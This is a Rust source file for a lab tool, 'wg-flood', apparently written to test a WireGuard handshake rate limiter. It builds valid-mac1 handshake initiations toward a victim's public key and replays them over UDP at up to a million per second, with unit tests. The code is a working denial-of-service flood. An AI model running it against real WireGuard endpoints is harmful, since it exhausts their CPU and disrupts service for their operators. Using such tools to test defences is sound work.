//! `fabric-lab wg-flood`: a bounded flood of junk WireGuard handshake initiations at one
//! node's WireGuard port, the attack the device's handshake rate limiter exists for.
//!
//! The attacker knows the victim's public key (every lease publishes it), so its initiations
//! carry a valid mac1: they pass the cheap check, and a responder without a rate limiter pays
//! an X25519 for each before it learns that the initiator's key is nobody's. A few hundred
//! distinct initiations are built up front (boringtun, toward the victim's key, from random
//! private keys), then replayed round-robin at a fixed rate from one UDP socket. The flood is
//! bounded three ways: rate, duration and datagram count; it ignores whatever comes back
//! (cookie replies) and stops by itself. Run it inside a lab namespace
//! (`fabric-lab exec NS -- fabric-lab wg-flood ...`).

use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{bail, ensure, Context, Result};
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};
use serde::{Deserialize, Serialize};

/// The highest rate accepted, datagrams per second.
pub const MAX_RATE: u64 = 1_000_000;
/// The longest flood accepted, seconds.
pub const MAX_SECONDS: u64 = 600;

/// How often the sender catches up with its schedule.
const TICK: Duration = Duration::from_millis(1);

/// `fabric-lab wg-flood`.
#[derive(Debug, Clone, clap::Args)]
pub struct FloodArgs {
    /// The victim's WireGuard endpoint, `IP:PORT` (a lab node's underlay address, 51820).
    #[arg(long)]
    pub target: SocketAddr,
    /// The victim's public key, base64 (as its lease publishes it).
    #[arg(long)]
    pub public_key: String,
    /// Initiations per second.
    #[arg(long, default_value_t = 30_000, value_parser = clap::value_parser!(u64).range(1..=MAX_RATE))]
    pub rate: u64,
    /// How long to flood, seconds.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=MAX_SECONDS))]
    pub seconds: u64,
    /// Distinct initiations to build and replay.
    #[arg(long, default_value_t = 256, value_parser = clap::value_parser!(u64).range(1..=4096))]
    pub distinct: u64,
}

/// What a flood did, printed as one JSON line at its end.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FloodReport {
    /// Datagrams sent.
    pub sent: u64,
    /// Sends that failed (e.g. refused: nothing listens on the port).
    pub failed: u64,
    /// Seconds from the first send to the last.
    pub seconds: f64,
    /// `sent / seconds`.
    pub rate: f64,
}

/// Runs the subcommand: builds the initiations, floods, prints the report.
pub fn main(args: &FloodArgs) -> Result<()> {
    let key = decode_key(&args.public_key)?;
    let initiations = initiations(&PublicKey::from(key), args.distinct as usize)?;
    eprintln!(
        "wg-flood: {} distinct initiations toward {}, {} /s for {} s",
        initiations.len(),
        args.target,
        args.rate,
        args.seconds
    );
    let report = flood(
        args.target,
        &initiations,
        args.rate,
        Duration::from_secs(args.seconds),
    )?;
    println!("{}", serde_json::to_string(&report)?);
    Ok(())
}

/// A WireGuard public key from its base64 form.
fn decode_key(text: &str) -> Result<[u8; 32]> {
    let bytes = STANDARD
        .decode(text.trim())
        .context("the public key is not base64")?;
    bytes
        .try_into()
        .map_err(|b: Vec<u8>| anyhow::anyhow!("a public key has 32 bytes, not {}", b.len()))
}

/// `n` handshake initiations toward `victim`, each from a fresh random static key: valid
/// mac1, valid crypto, an initiator nobody knows.
pub fn initiations(victim: &PublicKey, n: usize) -> Result<Vec<Vec<u8>>> {
    let mut buf = [0u8; 256];
    (0..n)
        .map(|i| {
            let secret = StaticSecret::from(rand::random::<[u8; 32]>());
            let mut tunn = Tunn::new(secret, *victim, None, None, i as u32, None);
            match tunn.format_handshake_initiation(&mut buf, false) {
                TunnResult::WriteToNetwork(init) => Ok(init.to_vec()),
                TunnResult::Err(e) => bail!("building an initiation: {e:?}"),
                _ => bail!("boringtun built no initiation"),
            }
        })
        .collect()
}

/// Datagrams due `elapsed` into a flood at `rate` per second, at most `total`.
fn due(elapsed: Duration, rate: u64, total: u64) -> u64 {
    ((elapsed.as_secs_f64() * rate as f64) as u64).min(total)
}

/// Sends `datagrams` round-robin to `target` at `rate` per second for `duration`
/// (`rate × duration` datagrams at most), from an ephemeral port; never reads replies.
pub fn flood(
    target: SocketAddr,
    datagrams: &[Vec<u8>],
    rate: u64,
    duration: Duration,
) -> Result<FloodReport> {
    ensure!(!datagrams.is_empty(), "nothing to send");
    ensure!(
        (1..=MAX_RATE).contains(&rate) && duration <= Duration::from_secs(MAX_SECONDS),
        "a flood is bounded: at most {MAX_RATE} /s for {MAX_SECONDS} s"
    );
    let bind: SocketAddr = match target {
        SocketAddr::V4(_) => "0.0.0.0:0".parse().expect("address"),
        SocketAddr::V6(_) => "[::]:0".parse().expect("address"),
    };
    let socket = UdpSocket::bind(bind).context("binding the flood's socket")?;
    socket
        .connect(target)
        .with_context(|| format!("addressing {target}"))?;
    let total = (duration.as_secs_f64() * rate as f64) as u64;
    let (mut sent, mut failed) = (0u64, 0u64);
    let mut next = datagrams.iter().cycle();
    let start = Instant::now();
    loop {
        let elapsed = start.elapsed();
        let goal = due(elapsed, rate, total);
        while sent + failed < goal {
            match socket.send(next.next().expect("cycle")) {
                Ok(_) => sent += 1,
                Err(_) => failed += 1,
            }
        }
        if sent + failed >= total || elapsed >= duration {
            break;
        }
        std::thread::sleep(TICK);
    }
    let seconds = start.elapsed().as_secs_f64();
    Ok(FloodReport {
        sent,
        failed,
        seconds,
        rate: sent as f64 / seconds.max(1e-9),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_wg_keys() {
        let key = [0xa5u8; 32];
        // `wg` prints 32 bytes as 43 characters and one `=`.
        let text = "paWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaWlpaU=";
        assert_eq!(decode_key(text).unwrap(), key);
        assert!(decode_key("TWFu").is_err());
        assert!(decode_key("not base64!").is_err());
    }

    #[test]
    fn initiations_are_distinct_and_well_formed() {
        let victim = PublicKey::from(&StaticSecret::from([7u8; 32]));
        let inits = initiations(&victim, 8).unwrap();
        assert_eq!(inits.len(), 8);
        for init in &inits {
            assert_eq!(init.len(), 148);
            assert_eq!(init[..4], 1u32.to_le_bytes());
        }
        let mut unique = inits.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(unique.len(), 8);
    }

    #[test]
    fn the_schedule_is_bounded_by_rate_and_count() {
        assert_eq!(due(Duration::from_millis(500), 30_000, 1_000_000), 15_000);
        assert_eq!(due(Duration::from_secs(100), 30_000, 60_000), 60_000);
    }

    #[test]
    fn floods_a_local_socket_and_stops() {
        let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
        let report = flood(
            sink.local_addr().unwrap(),
            &[vec![1, 2, 3]],
            2_000,
            Duration::from_millis(200),
        )
        .unwrap();
        assert_eq!(report.sent + report.failed, 400);
        assert!(report.seconds < 2.0, "{report:?}");
        assert!(flood(sink.local_addr().unwrap(), &[], 1, Duration::from_secs(1)).is_err());
    }
}
